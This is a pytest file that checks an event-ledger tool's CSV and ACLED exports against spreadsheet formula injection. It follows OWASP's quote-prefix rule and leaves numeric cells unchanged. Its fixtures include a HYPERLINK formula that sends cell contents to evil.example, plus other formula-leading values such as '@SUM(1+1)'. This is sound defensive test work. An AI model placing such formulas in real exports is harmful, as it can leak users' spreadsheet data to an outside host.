"""CSV exports never hand a spreadsheet a formula: text cells that start with = + - @ tab or CR
are written with a leading quote (OWASP's CSV-injection rule), numbers stay numbers."""

from __future__ import annotations

import csv
import io

from eventledger.cli import main
from eventledger.ledger import Ledger
from eventledger.records import Actor, Article, DocResult, Event, Evidence, Extraction, Location, RawDocument
from eventledger.store.export import safe_cell

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def hostile_ledger(path) -> Ledger:
    text = f"{FORMULA} Gunmen killed 4 people in Goma on Sunday, the army said."
    sentence = Evidence(0, len(text), text)
    event = Event("E1", "Violence against civilians", "Attack", confidence=0.8, date="2026-01-04", date_precision="day",
                  location=Location(name="+Goma", country="DR Congo", country_code="CD", lat=-1.68, lon=29.22, precision=1),
                  actors=[Actor(name="@SUM(1+1)", role="actor1", actor_type="unidentified", inter_code=3),
                          Actor(name="\tcivilians", role="actor2", actor_type="civilians", inter_code=7)],
                  evidence=[sentence], trigger=Evidence(len(FORMULA) + 8, len(FORMULA) + 14, "killed"))
    extraction = Extraction(article=Article(text=text, title="-1 story", outlet="-Outlet"), events=[event], doc_id="h1")
    ledger = Ledger(path)
    ledger.store([DocResult("h1", RawDocument(text, outlet="-Outlet", doc_id="h1"), extraction, source="=cmd.txt"),
                  DocResult("h2", RawDocument("\x00", doc_id="h2"), error_code="binary",
                            error_message="binary input", source=FORMULA)])
    return ledger


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for key, value in row.items():
            if value and value[0] in "=+-@\t\r":
                float(value)  # only a number may start so (a negative latitude)


def test_safe_cell():
    assert safe_cell(FORMULA) == "'" + FORMULA
    assert [safe_cell(v) for v in ("+1", "-x", "@a", "\tx", "\rx", "plain", "", None, -1.5, 3)] == \
        ["'+1", "'-x", "'@a", "'\tx", "'\rx", "plain", "", None, -1.5, 3]


def test_csv_and_acled_exports_neutralise_formulas(tmp_path):
    with hostile_ledger(tmp_path / "h.duckdb") as ledger:
        assert ledger.export(tmp_path / "events.csv") == 1
        assert ledger.export(tmp_path / "events.acled.csv") == 1
    (plain,) = cells((tmp_path / "events.csv").read_text("utf-8"))
    assert_no_formula([plain])
    assert plain["summary"].startswith("'=HYPERLINK(") and plain["location_name"] == "'+Goma"
    assert plain["lat"] == "-1.68"  # a number, left alone
    (acled,) = cells((tmp_path / "events.acled.csv").read_text("utf-8"))
    assert_no_formula([acled])
    assert acled["notes"].startswith("'=HYPERLINK(") and acled["actor1"] == "'@SUM(1+1)"
    assert acled["location"] == "'+Goma" and acled["latitude"] == "-1.68"


def test_command_line_csv_output_neutralises_formulas(tmp_path, capsys):
    hostile_ledger(tmp_path / "c.duckdb").close()
    assert main(["events", "--db", str(tmp_path / "c.duckdb"), "--format", "csv"]) == 0
    (row,) = cells(capsys.readouterr().out)
    assert_no_formula([row])
    assert row["location_name"] == "'+Goma"
    assert main(["errors", "--db", str(tmp_path / "c.duckdb"), "--format", "csv"]) == 0
    (error,) = cells(capsys.readouterr().out)
    assert error["source"] == "'" + FORMULA
